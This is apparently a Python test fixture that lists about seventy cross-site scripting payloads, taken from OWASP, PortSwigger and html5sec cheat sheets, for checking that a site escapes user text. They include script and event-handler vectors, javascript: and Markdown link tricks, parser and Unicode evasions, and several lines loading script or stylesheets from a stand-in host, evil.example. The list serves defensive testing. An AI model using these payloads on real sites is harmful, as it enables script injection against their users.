"""Hostile input: markup that would run script if a page, the API or a feed let it through unescaped.

Sources: the OWASP XSS filter
evasion cheat sheet, PortSwigger's XSS cheat sheet and the html5sec.org vectors, trimmed to what can reach
this site's text fields (Markdown bodies, plain-text titles, names, notes).
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # Script elements
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert('xss');//<</script>",
    "</title><script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    '"><script>alert("xss")</script>',
    "'><script>alert('xss')</script>",
    # Event handlers
    "<img src=x onerror=alert('xss')>",
    "<img src=x:xss onerror=alert(1)//",
    "<body onload=alert('xss')>",
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
    "<div onmouseover=\"alert('xss')\">hover xss</div>",
    "<input autofocus onfocus=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "<video><source onerror=alert('xss')></video>",
    "<marquee onstart=alert('xss')>xss</marquee>",
    '" onmouseover="alert(\'xss\')" x="',
    "' autofocus onfocus='alert(1)' xss='",
    "<a hx-on:click=\"alert('xss')\">htmx xss</a>",
    "<div hx-get=/api/v1/me/progress/ hx-trigger=load>xss</div>",
    # javascript: and data: URLs, raw and in Markdown
    "<a href=\"javascript:alert('xss')\">xss</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">xss</a>',
    "[xss](javascript:alert(1))",
    "[xss](JaVaScRiPt:alert(1))",
    "[xss](javascript&#58;alert(1))",
    "[xss](&#106;avascript:alert(1))",
    "[xss](java\tscript:alert(1))",
    "[xss](data:text/html,<script>alert(1)</script>)",
    "[xss](vbscript:msgbox(1))",
    "[xss]( javascript:alert(1) )",
    "[xss][ref]\n\n[ref]: javascript:alert(1)",
    '![xss](x" onerror="alert(1))',
    "![xss](javascript:alert(1))",
    '![xss](https://example.com/x.png "x\\" onerror=\\"alert(1)")',
    "<javascript:alert('xss')>",
    "<https://example.com/\"onmouseover=\"alert('xss')>",
    # Frames, objects, base, meta, forms
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss')</script>\"></iframe>",
    "<object data=\"javascript:alert('xss')\"></object>",
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<base href="https://evil.example/">xss',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<form action="javascript:alert(1)"><button>xss</button></form>',
    '<button formaction="javascript:alert(1)">xss</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    # CSS
    "<div style=\"background:url(javascript:alert('xss'))\">xss</div>",
    "<div style=\"width: expression(alert('xss'))\">xss</div>",
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<link rel=stylesheet href=https://evil.example/xss.css>",
    # Broken markup and parser confusion
    '<img src="x" alt="`<img src=x onerror=alert(\'xss\')>`">',
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert('xss')//\">",
    "<![CDATA[<script>alert('xss')</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\">",
    "<img/src=x\fonerror=alert('xss')>",
    "<a href=\"jav&#x09;ascript:alert('xss')\">xss</a>",
    # Entities
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss')\">xss</a>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('xss')>",
    "&#x3C;script&#x3E;alert('xss')&#x3C;/script&#x3E;",
    # Unicode tricks
    "xss \u202egnp.exe\u202c spoiler",
    "java\u200bscript:alert('xss')",
    "[xss](java\u200bscript:alert(1))",
    "<scr\u200bipt>alert('xss')</scr\u200bipt>",
    "\uff1cscript\uff1ealert('xss')\uff1c/script\uff1e",
    "xss\u0000<script>alert(1)</script>",
    # Template injection (Django templates must not evaluate user text)
    "{{ request.user.password }} xss {% debug %}",
]
